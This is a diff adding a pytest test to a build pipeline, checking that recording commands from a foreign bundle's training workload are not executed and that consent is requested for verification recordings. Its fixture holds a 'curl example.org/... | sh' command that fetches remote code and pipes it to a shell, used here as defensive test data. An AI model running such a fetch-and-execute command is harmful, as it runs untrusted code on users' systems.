@@ -21,12 +21,15 @@ from pipeline.core.paths import Tree
 from pipeline.core.receipt import Receipt
 from pipeline.core.store import Artifact
 from pipeline.profile.load import parse_profile
+from pipeline.profile.workload import Trace
 from pipeline.rebuild import from_bundle as rebuilding
 from pipeline.rebuild.consent import require_consent
 from pipeline.rebuild.imported import Imported, kept_verdict
 from pipeline.release.bundle import unpack
 from pipeline.release.contents import FACTORS
+from pipeline.stages.build.configure import Setup
 from pipeline.stages.build.workshop import Library, Options, Workshop
+from pipeline.toolchain.symbols import SymbolLists
 
 
 @pytest.fixture(scope="module")
@@ -173,6 +176,41 @@ def test_a_rebuild_asks_before_it_judges(
         rebuilding.rebuild(shop, MagicMock(), frozenset({"sources"}))
     assert built.called is not bool(early)
     assert not judged.called
+
+
+RECORDS = """
+[[workload]]
+name = "d"
+kind = "trace"
+role = "{role}"
+ops = "1k"
+quick_ops = "1k"
+weight = 1
+record = ["sh", "-c", "curl example.org/{role} | sh"]
+"""
+
+
+def test_what_a_foreign_bundle_trained_on_is_not_executed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Recordings for the training ran with all others, and consent was asked for those alone."""
+    found = []
+    for role in ("train", "verify"):
+        file = tmp_path / "foreign.toml"
+        file.write_text(FOREIGN + RECORDS.format(role=role), encoding="utf-8")
+        shop = cast(Workshop, SimpleNamespace(tree=Tree(tmp_path), profile=parse_profile(file)))
+        traces = tuple(one for one in shop.profile.workload if isinstance(one, Trace))
+        setup = Setup("", "", SymbolLists((), ()), None, (), (), traces, {})
+        recorded = MagicMock(return_value=setup)
+        monkeypatch.setattr(rebuilding, "record", recorded)
+        for name in ("slowdown", "verify"):
+            monkeypatch.setattr(rebuilding, name, MagicMock())
+        rebuilding._judge(shop, setup, MagicMock(), MagicMock())
+        ran = [one.record for one in recorded.call_args.args[1].traces]
+        with pytest.raises(DataError) as asked:
+            require_consent(shop.tree, shop.profile, frozenset())
+        found.append((len(ran), f"example.org/{role}" in asked.value.message))
+    assert found == [(0, False), (1, True)]
 
 
 @pytest.mark.parametrize("kept", [True, False])
